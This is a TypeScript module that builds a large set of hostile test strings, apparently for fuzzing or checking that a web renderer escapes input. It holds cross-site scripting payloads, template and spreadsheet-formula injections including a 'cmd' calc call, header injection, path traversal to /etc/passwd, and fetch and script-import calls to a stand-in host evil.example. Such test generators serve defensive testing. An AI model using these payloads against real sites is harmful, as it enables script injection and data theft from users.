/**
 * Strings that somebody would put into a page in the hope that they run, fetch, break out or mislead wherever a reader sees them.
 * Made by rule from parts, the same ones in the same order each time; ours, after the kinds that are known.
 */

const HANDLERS = ['onerror', 'onload', 'onfocus', 'onclick', 'onmouseover', 'ontoggle', 'onanimationstart', 'onpointerenter'];
const RUNS = ['window.stolen=1', 'fetch("https://evil.example/")', 'top.stolen=1', 'import("https://evil.example/x.js")', 'alert`1`'];
const TAGS = ['img', 'svg', 'iframe', 'video', 'audio', 'details', 'input', 'body', 'object', 'embed', 'math', 'style', 'marquee', 'form'];
const BREAKS = [
  '',
  '">',
  "'>",
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</template>',
  '`}',
  '\\"',
  '*/',
  '\u0000',
];
const SCHEMES = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', ' javascript:', 'data:text/html,', 'vbscript:', 'blob:', 'file:///', '//'];
const EXPRESSIONS = [
  '{{RUN}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: one of them.
  '${RUN}',
  '<%=RUN%>',
  '#{RUN}',
  '[[RUN]]',
  '{RUN}',
  '@(RUN)',
  '=RUN',
  '+RUN',
  '-RUN',
  '@RUN',
  '\t=RUN',
  "=cmd|'/C calc'!A0",
];
const OTHERS = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '[object Object]',
  'undefined',
  'NaN',
  '\ud800',
  '\udfff\ud800',
  '\u202eevil\u202c',
  '\u2066evil',
  'Z̷̢̛a̴l̸g̵o',
  'ﷺ'.repeat(9),
  '👩‍👩‍👧‍👦',
  '\r\nSet-Cookie: a=b',
  '](javascript:RUN)',
  '![x](https://evil.example/x.png)',
  '<https://evil.example/>',
  '\n\n# Title\n\n* one',
  '```\nRUN\n```',
  '"),RUN,("',
  '$1 $2 $& $`',
  '%s %d %n',
  '../../etc/passwd',
  'a\u0000b',
];

/** At least so many strings, each different from all the others. */
export function hostileStrings(count: number): string[] {
  const made = new Set<string>();
  for (const run of RUNS) {
    for (const close of BREAKS) {
      for (const tag of TAGS)
        for (const handler of HANDLERS) {
          made.add(`${close}<${tag} ${handler}=${run}>`);
          made.add(`${close}<${tag}/${handler}='${run}' src=x href=x autofocus open>`);
        }
      for (const scheme of SCHEMES) {
        made.add(`${close}${scheme}${run}`);
        made.add(`${close}<a href="${scheme}${run}">a</a>`);
        made.add(`${close}<iframe src="${scheme}${run}">`);
        made.add(`${close}<meta http-equiv=refresh content="0;url=${scheme}${run}">`);
      }
      for (const way of ['script', 'svg><script', 'math><mtext><script', 'noscript><p title="</noscript><script'])
        made.add(`${close}<${way}>${run}</script>`);
      for (const expression of EXPRESSIONS) made.add(close + expression.replace('RUN', run));
      for (const other of OTHERS) made.add(close + other.replace('RUN', run));
      made.add(`${close}<link rel=stylesheet href=https://evil.example/x.css>`);
      made.add(`${close}<style>@import "https://evil.example/x.css";*{background:url(https://evil.example/y)}</style>`);
      made.add(`${close}<base href=https://evil.example/>`);
    }
  }
  // The same with another layer of disguise.
  const plain = [...made];
  const disguises = [encodeURIComponentSafely, toReferences, (text: string) => text.toUpperCase(), (text: string) => `x${text}y`];
  for (const disguise of disguises) for (const text of plain) if (made.size < count) made.add(disguise(text));
  return [...made].slice(0, Math.max(count, plain.length));
}

function encodeURIComponentSafely(text: string): string {
  return encodeURIComponent(text.replace(/\p{Surrogate}/gu, '\ufffd'));
}

function toReferences(text: string): string {
  return text.replace(/[<>"'=]/g, (sign) => `&#${sign.charCodeAt(0)};`);
}
